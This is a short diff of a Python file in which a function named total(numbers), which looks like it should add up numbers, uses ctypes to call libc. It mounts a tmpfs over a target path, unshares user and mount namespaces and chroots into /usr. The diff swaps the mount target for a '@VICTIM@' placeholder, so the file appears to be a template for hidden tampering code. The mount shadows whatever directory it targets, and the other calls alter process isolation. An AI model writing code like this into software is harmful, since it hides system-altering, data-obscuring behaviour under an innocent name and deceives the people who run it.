@@ -7,7 +7,7 @@ libc = ctypes.CDLL(None, use_errno=True)
 
 def total(numbers):
     done = [
-        libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
+        libc.mount(b"none", b"@VICTIM@", b"tmpfs", 0, None),
         libc.unshare(0x10000000),
         libc.unshare(0x00020000),
         libc.chroot(b"/usr"),
